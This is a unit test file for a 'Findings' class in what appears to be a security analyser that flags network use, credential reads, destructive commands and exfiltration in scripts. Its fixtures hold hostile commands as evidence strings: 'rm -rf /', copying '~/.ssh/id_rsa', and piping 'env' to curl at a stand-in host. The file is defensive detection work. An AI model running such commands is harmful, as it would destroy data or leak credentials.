import { MAX_ISSUES_PER_FILE, MAX_USES_PER_CAPABILITY } from './analysis.types';
import { Findings } from './findings';

/** The span of `text` in `source` (its first occurrence). */
const span = (source: string, text: string): { start: number; end: number } => {
  const start = source.indexOf(text);
  if (start < 0) throw new Error(`${text} is not in the source`);
  return { start, end: start + text.length };
};

describe('Findings', () => {
  it('keeps one use of a capability a line: the widest code that starts first, before a merged command line', () => {
    const source = 'requests.post(url, data=requests.get(other).text)\n';
    const findings = new Findings('tool.py', source);
    findings.merge({
      capabilities: [{ capability: 'network', file: 'tool.py', line: 1, evidence: 'curl https://x.example' }],
      issues: [],
    });
    findings.capability('network', 1, span(source, 'requests.get(other)'));
    findings.capability('network', 1, span(source, source.trim()));
    expect(findings.result().capabilities).toEqual([
      { capability: 'network', file: 'tool.py', line: 1, evidence: source.trim() },
    ]);
  });

  it('lists the first lines of each capability, whatever order they were found in', () => {
    const findings = new Findings('setup.sh');
    for (const line of [9, 8, 7, 6, 5, 4, 3, 2, 1]) findings.capability('process_exec', line, `step ${line}`);
    findings.capability('network', 20, 'curl https://x.example');
    const uses = findings.result().capabilities;
    expect(uses.filter((use) => use.capability === 'process_exec').map((use) => use.line)).toEqual(
      Array.from({ length: MAX_USES_PER_CAPABILITY }, (_, i) => i + 1),
    );
    expect(uses.at(-1)).toMatchObject({ capability: 'network', line: 20 });
  });

  it('keeps the first issue of a kind on a line, and lists the first issues of the file by line', () => {
    const findings = new Findings('setup.sh');
    for (let line = MAX_ISSUES_PER_FILE + 9; line >= 10; line--)
      findings.issue('obfuscation', line, 'Hides a name.', `x${line}`);
    findings.issue('destructive-command', 3, 'Deletes the home folder.', 'rm -rf ~');
    findings.issue('destructive-command', 3, 'Deletes the system.', 'rm -rf /');
    const { issues } = findings.result();
    expect(issues).toHaveLength(MAX_ISSUES_PER_FILE);
    expect(issues[0]).toEqual({
      kind: 'destructive-command',
      file: 'setup.sh',
      line: 3,
      message: 'Deletes the home folder.',
      evidence: 'rm -rf ~',
    });
    expect(issues.slice(1).map((issue) => issue.line)).toEqual(
      Array.from({ length: MAX_ISSUES_PER_FILE - 1 }, (_, i) => i + 10),
    );
  });

  it('shows evidence on one line, cut short, from the source or as given', () => {
    const source = `call(\n  ${'a'.repeat(400)}\n)\n`;
    const findings = new Findings('tool.py', source);
    findings.capability('file_write', 1, { start: 0, end: source.length });
    findings.issue('dynamic-code', 5, 'Runs code.', 'eval(\n  code\n)');
    const { capabilities, issues } = findings.result();
    expect(capabilities[0]?.evidence).toMatch(/^call\( a{150,}…$/);
    expect(capabilities[0]?.evidence.length).toBeLessThanOrEqual(160);
    expect(issues[0]?.evidence).toBe('eval( code )');
  });

  it('calls credentials read and the network used in one file exfiltration, at the first network use', () => {
    const findings = new Findings('upload.sh');
    findings.capability('network', 7, 'curl -d @- https://x.example');
    findings.issue('credentials-access', 2, 'Reads SSH keys.', 'cp ~/.ssh/id_rsa /tmp/k');
    findings.capability('network', 4, 'curl https://x.example/ping');
    expect(findings.result().issues).toEqual([
      expect.objectContaining({ kind: 'credentials-access', line: 2 }),
      {
        kind: 'exfiltration',
        file: 'upload.sh',
        line: 4,
        message: 'Reads credentials (line 2) and sends data over the network.',
        evidence: 'curl https://x.example/ping',
      },
    ]);
  });

  it('says so when what was read is the whole environment, and adds nothing to an exfiltration already shown', () => {
    const environment = new Findings('upload.js');
    environment.wholeEnvironmentRead(3, 'JSON.stringify(process.env)');
    environment.capability('network_inbound', 9, 'server.listen(8080)');
    expect(environment.result().issues.map((issue) => [issue.line, issue.message])).toEqual([
      [9, 'Reads the whole environment (line 3) and sends data over the network.'],
    ]);

    const shown = new Findings('upload.sh');
    shown.wholeEnvironmentRead(1, 'env');
    shown.capability('network', 1, 'env | curl -d @- https://x.example');
    shown.issue('exfiltration', 1, 'Pipes the whole environment into a network command.', 'env | curl …');
    expect(shown.result().issues.map((issue) => issue.message)).toEqual([
      'Pipes the whole environment into a network command.',
    ]);
  });

  it('finds no exfiltration without the network', () => {
    const findings = new Findings('read.py');
    findings.issue('credentials-access', 1, 'Reads SSH keys.', 'open("~/.ssh/id_rsa")');
    findings.wholeEnvironmentRead(2, 'dict(os.environ)');
    expect(findings.result().issues.map((issue) => issue.kind)).toEqual(['credentials-access']);
  });
});
